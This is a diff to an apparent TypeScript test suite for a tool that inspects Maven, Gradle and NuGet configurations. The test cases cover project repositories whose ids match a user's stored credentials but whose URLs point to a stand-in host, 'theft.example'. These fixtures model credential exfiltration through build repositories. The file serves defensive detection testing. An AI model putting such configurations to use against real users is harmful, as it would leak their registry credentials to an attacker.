@@ -44,12 +44,18 @@ const login = (key: string, password: string): string =>
 
 const home: Readonly<Record<string, string>> = {
   '.m2/settings.xml': `<settings><servers>${server('acme', 'of-settings')}${server('variable', '$'.concat('{env.SECRET_TOKEN}'))}
-${server('sealed', '{COQLCE6DU6GtcS5P=}')}${server('company', 'of-company')}${server('mirror', 'of-mirror')}</servers>
+${server('sealed', '{COQLCE6DU6GtcS5P=}')}${server('company', 'of-company')}${server('bare', 'of-bare')}${server('mirror', 'of-mirror')}</servers>
 <mirrors><mirror><id>mirror</id><url>https://mirror.acme.example/m</url><mirrorOf>mirrored</mirrorOf></mirror></mirrors>
-<profiles><profile><id>p</id>${'<pluginRepositories>'}<pluginRepository><id>company</id><url>https://company.acme.example</url></pluginRepository></pluginRepositories></profile></profiles>
+<profiles><profile><id>p</id>${'<pluginRepositories>'}<pluginRepository><id>company</id><url>https://company.acme.example</url></pluginRepository></pluginRepositories></profile>
+<profile><id>names</id><repositories>${repository('acme', 'https://repo.acme.example/maven')}${repository('variable', 'https://variable.acme.example')}</repositories></profile></profiles>
 <activeProfiles><activeProfile>p</activeProfile></activeProfiles></settings>`,
-  '.gradle/gradle.properties': 'acmeUsername=anna\nacmePassword=of-gradle\nsigningPassword=never\n',
-  '.nuget/NuGet/NuGet.Config': `<configuration><packageSourceCredentials>${login('acme', '%SECRET_TOKEN%')}</packageSourceCredentials></configuration>`,
+  '.gradle/gradle.properties':
+    'acmeUsername=anna\nacmePassword=of-gradle\nbareUsername=anna\nbarePassword=of-bare\nsigningPassword=never\n',
+  '.gradle/init.gradle':
+    "allprojects { repositories { maven { name 'acme'; url 'https://gradle.acme.example/m'; credentials(PasswordCredentials) } } }",
+  '.nuget/NuGet/NuGet.Config': `<configuration><packageSources><add key="acme" value="https://feed.acme.example/v3/index.json" />
+<add key="away" value="https://away.acme.example/v3/index.json" /></packageSources>
+<packageSourceCredentials>${['acme', 'away', 'bare'].map((it) => login(it, '%SECRET_TOKEN%')).join('')}</packageSourceCredentials></configuration>`,
 };
 
 const shapes: readonly Shape[] = [
@@ -93,6 +99,28 @@ const shapes: readonly Shape[] = [
     files: { 'pom.xml': pom(repository('company', 'https://theft.example/maven')) },
     asked: [],
     hover: ['~/.m2/settings.xml'],
+  },
+  {
+    title: 'a repository whose id has a credential of the person, but no address',
+    files: { 'pom.xml': pom(repository('bare', 'https://theft.example/maven')) },
+    asked: [],
+    hover: ['<repository> <id>bare</id>', '~/.m2/settings.xml'],
+  },
+  {
+    title: 'a repository of Gradle whose name has a credential of the person, but no address',
+    files: {
+      'build.gradle': script(
+        "maven { name = 'bare'; url = 'https://theft.example'; credentials(PasswordCredentials) }",
+      ),
+    },
+    asked: [],
+    hover: ['name = "bare"', '~/.gradle/init.gradle'],
+  },
+  {
+    title: 'a feed of NuGet whose key has a credential of the person, but no address',
+    files: { 'app.csproj': project, 'nuget.config': source('bare', 'https://theft.example/v3/index.json') },
+    asked: [],
+    hover: ['<add key="bare"', 'NuGet.Config'],
   },
   {
     title: 'a variable in an address of a POM',
@@ -144,7 +172,7 @@ const shapes: readonly Shape[] = [
   },
   {
     title: 'a feed of NuGet that leads to another host',
-    files: { 'app.csproj': project, 'nuget.config': source('acme', 'https://away.acme.example/v3/index.json') },
+    files: { 'app.csproj': project, 'nuget.config': source('away', 'https://away.acme.example/v3/index.json') },
     asked: [`away.acme.example ${basic('anna:token-of-variable')}`, 'cdn.acme.example'],
     hover: ['MIT'],
   },
